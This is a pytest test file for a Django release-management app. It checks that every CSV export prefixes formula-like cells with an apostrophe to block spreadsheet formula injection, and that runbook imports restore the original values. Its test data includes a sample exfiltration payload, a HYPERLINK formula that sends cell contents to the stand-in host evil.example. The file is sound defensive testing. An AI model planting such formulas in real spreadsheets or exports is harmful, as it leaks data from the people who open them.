"""Every CSV the product writes shows formula-like cells as text (one helper, every export)."""

import csv
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone

from communications.models import Communication
from freezes.models import FreezeOverride, FreezeWindow
from golive.audit import record_event
from golive.choices import Role
from golive.spreadsheet import FORMULA_STARTS, SpreadsheetWriter, read_spreadsheet_cell, spreadsheet_cell
from gonogo.models import Vote
from handover.choices import DocumentKind
from handover.models import (
    AccessTransfer,
    HandoverItem,
    HandoverPlan,
    RequiredDocument,
    SupportTeam,
    TrainingSession,
)
from runbook.models import GoLiveStep
from runbook.services.execution import start_step
from runbook.spreadsheets import export_runbook, import_runbook
from smoketests.models import CheckResult, SmokeCheck
from tests.dashboards.test_audit_pack import audited_release  # noqa: F401  (the fixture)
from tests.factories import MembershipFactory, ReleaseFactory

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_written_as_text_and_reads_back_exactly(value):
    cell = spreadsheet_cell(value)
    assert cell == "'" + value
    assert read_spreadsheet_cell(cell) == value


@pytest.mark.parametrize("value", ["Migrate the database", "-5", "+3.25", "42", "", "a=b", "'quoted"])
def test_ordinary_text_and_plain_numbers_are_unchanged(value):
    assert spreadsheet_cell(value) == value
    assert read_spreadsheet_cell(value) == value


def test_an_apostrophe_before_a_formula_survives_the_round_trip():
    assert read_spreadsheet_cell(spreadsheet_cell("'=1+1")) == "'=1+1"


def test_the_writer_marks_every_cell_and_leaves_numbers_alone():
    buffer = io.StringIO()
    SpreadsheetWriter(buffer).writerow(["=1+1", -4, None, "ok"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "-4", "", "ok"]


def _formula(index: int) -> str:
    return FORMULAS[index % len(FORMULAS)]


def _assert_no_formula_cells(name: str, text: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    running = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not cell.lstrip("+-").isdigit()]
    assert running == [], name
    assert any(cell.startswith("'") and cell[1:] in FORMULAS for cell in cells), (
        f"{name}: no formula reached it"
    )


def test_every_csv_export_escapes_formula_cells(audited_release, members, client_for):  # noqa: F811
    release = audited_release
    # A step that moved puts a row in the runbook timeline, which the audit pack reads from the trail.
    first_step = GoLiveStep.objects.filter(release=release).order_by("order").first()
    start_step(step=first_step, actor=members[Role.SCRUM_TEAM])
    for index, step in enumerate(GoLiveStep.objects.filter(release=release)):
        GoLiveStep.objects.filter(pk=step.pk).update(
            title=_formula(index), instructions=_formula(index + 1), rollback_note=_formula(index + 2)
        )
    # A recorded decision never changes: its chair's name carries the formula into decisions.csv.
    get_user_model().objects.filter(pk__in=[user.pk for user in members.values()]).update(
        first_name=FORMULAS[3], last_name=""
    )
    Vote.objects.filter(meeting__release=release).update(reason=FORMULAS[1], conditions=FORMULAS[2])
    CheckResult.objects.filter(run__release=release).update(check_name=FORMULAS[3], message=FORMULAS[4])
    SmokeCheck.objects.filter(release=release).update(name=FORMULAS[5])
    Communication.objects.filter(release=release).update(subject=FORMULAS[0], body=FORMULAS[1])
    HandoverItem.objects.filter(plan__release=release).update(
        title=FORMULAS[2], evidence_note=FORMULAS[3], waiver_reason=FORMULAS[4]
    )
    SupportTeam.objects.filter(plans__release=release).update(name=FORMULAS[5])
    plan = HandoverPlan.objects.get(release=release)
    team = plan.teams.get()
    AccessTransfer.objects.create(
        plan=plan,
        receiving_team=team,
        system=FORMULAS[0],
        access_level=FORMULAS[1],
        current_holder=FORMULAS[2],
        credential_location=FORMULAS[3],
    )
    TrainingSession.objects.create(
        plan=plan, team=team, topic=FORMULAS[4], trainer=FORMULAS[5], scheduled_for=timezone.now()
    )
    document = RequiredDocument.objects.create(plan=plan, kind=DocumentKind.values[0])
    record_event(
        verb="document.updated",
        actor=get_user_model().objects.get(pk=members[Role.RELEASE_MANAGER].pk),  # named by a formula now
        target=document,
        release=release,
        changes={"version": [None, FORMULAS[1]]},
    )
    # The team's name is a formula now: the event's target carries it into the audit trail.
    record_event(verb="team.changed", actor=None, target=team, release=release)
    window = FreezeWindow.objects.create(
        name=FORMULAS[0],
        reason=FORMULAS[1],
        starts_at=timezone.now(),
        ends_at=timezone.now() + timedelta(hours=1),
    )
    FreezeOverride.objects.create(
        release=release,
        window=window,
        occurrence_ends_at=window.ends_at,
        reason=FORMULAS[2],
        recorded_by=members[Role.RELEASE_MANAGER],
    )
    client = client_for(members[Role.RELEASE_MANAGER])

    exports = {}
    runbook = client.get(reverse("runbook:runbook_export", args=[release.pk]))
    assert runbook.status_code == 200
    exports["runbook export"] = runbook.content.decode()
    handover = client.get(reverse("handover:report_csv", args=[release.pk]))
    assert handover.status_code == 200
    exports["handover list"] = handover.content.decode()
    pack = client.get(reverse("dashboards:audit_pack", args=[release.pk]))
    archive = zipfile.ZipFile(io.BytesIO(pack.content))
    for name in archive.namelist():
        if name.endswith(".csv"):
            exports[name] = archive.read(name).decode()
    assert len([name for name in exports if name.endswith(".csv")]) >= 8
    for name, text in exports.items():
        _assert_no_formula_cells(name, text)


def test_an_exported_runbook_with_formula_titles_imports_them_unchanged(go_release, members):
    step = go_release.steps.order_by("order").first()
    GoLiveStep.objects.filter(pk=step.pk).update(title="=1+1", instructions="@cmd")
    next_release = ReleaseFactory()
    for role, user in members.items():
        MembershipFactory(release=next_release, user=user, role=role)
    text = export_runbook(go_release)
    assert "'=1+1" in text
    steps = import_runbook(release=next_release, actor=members[Role.RELEASE_MANAGER], text=text)
    assert (steps[0].title, steps[0].instructions) == ("=1+1", "@cmd")


def test_no_other_code_writes_csv_without_the_helper():
    root = Path(settings.BASE_DIR)
    writers = [
        str(path.relative_to(root))
        for folder in ("config", "golive", "handover", "smoketests")
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()) and path.name != "spreadsheet.py"
    ]
    assert writers == [], "write CSV through golive.spreadsheet.SpreadsheetWriter"
